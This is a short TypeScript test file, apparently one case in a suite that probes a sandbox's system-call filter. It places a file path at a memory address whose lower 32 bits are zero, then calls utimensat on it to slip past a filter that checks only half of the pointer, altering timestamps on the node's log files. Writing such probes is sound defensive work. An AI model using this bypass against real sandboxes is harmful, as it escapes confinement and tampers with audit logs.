/** Puts a path where a filter that looks at half of an address takes it for none. */
import { dlopen, type Pointer, toArrayBuffer } from "bun:ffi";
import { attack } from "../attack.ts";
import { callNumber } from "../kernel.ts";

const AT_FDCWD = -100;
const utimensat = process.arch === "x64" ? 280 : 88;
/** The lower half of this address is 0. */
const address = 0x1_0000_0000;
const PROT_READ_WRITE = 3;
const MAP_PRIVATE_ANONYMOUS_FIXED_NOREPLACE = 0x02 | 0x20 | 0x10_0000;

export default attack(({ nodeFiles, dataDir }) => ({
  "times of a file of the node": () => {
    const { mmap } = dlopen("libc.so.6", {
      mmap: { args: ["u64", "u64", "i32", "i32", "i32", "i64"], returns: "u64" },
    }).symbols;
    const at = mmap(address, 65_536, PROT_READ_WRITE, MAP_PRIVATE_ANONYMOUS_FIXED_NOREPLACE, -1, 0);
    if (Number(at) !== address) return "no such address";
    const path = nodeFiles.find((file) => file.startsWith(`${dataDir}/logs/`)) ?? dataDir;
    new Uint8Array(toArrayBuffer(address as Pointer, 0, 4096)).set(Buffer.from(`${path}\0`));
    callNumber(utimensat, AT_FDCWD, address, 0, 0);
  },
}));
